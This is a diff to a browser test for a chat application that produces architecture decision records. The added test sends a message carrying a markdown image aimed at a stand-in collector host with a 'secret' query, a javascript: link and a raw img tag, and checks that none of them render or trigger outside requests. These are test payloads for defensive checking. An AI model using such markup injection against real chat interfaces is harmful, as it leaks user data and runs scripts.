@@ -93,6 +93,8 @@ def test_a_whole_consultation_in_a_real_browser(server: str, page: Page) -> None
     from playwright.sync_api import expect
 
     page.set_default_timeout(20_000)
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
     page.goto(server)
     box = page.get_by_test_id("stChatInputTextArea")
     expect(box).to_be_visible(timeout=60_000)  # the first start builds the knowledge base
@@ -118,10 +120,22 @@ def test_a_whole_consultation_in_a_real_browser(server: str, page: Page) -> None
     assert download.value.suggested_filename.startswith("adr-") and adr.startswith("# ADR:")
     assert "Decision: **rag**" in adr and "## Reasons by dimension" in adr and "weekly" in adr
 
+    # Markup in a message never loads anything: no remote image, no script link, no raw HTML.
+    count = messages.count()
+    box.fill("our logo ![logo](https://collector.invalid/l.png?q=secret) see [docs](javascript:alert(1)) "
+             "<img src=https://collector.invalid/b.png>")
+    box.press("Enter")
+    expect(messages).to_have_count(count + 2)
+    expect(messages.nth(count)).to_contain_text("![logo](https://collector.invalid/l.png?q=secret)")
+    assert page.locator("img[src*='collector']").count() == 0
+    assert page.locator("a[href^='javascript']").count() == 0
+    outside = [u for u in requested if not u.startswith((server, "data:", "blob:"))]
+    assert not outside, f"the page requested non-loopback URLs: {outside[:5]}"
+
     url = page.url
     page.reload()  # a refresh is a new session: the chat comes back from the checkpointer
-    expect(messages).to_have_count(1 + 2 * len(CONSULTATION))
-    expect(messages.last).to_contain_text("600,000 queries/month")
+    expect(messages).to_have_count(1 + 2 * (len(CONSULTATION) + 1))
+    expect(messages.nth(2 * len(CONSULTATION))).to_contain_text("600,000 queries/month")
     assert page.url == url
 
     page.get_by_text("Decision: rag").wait_for()
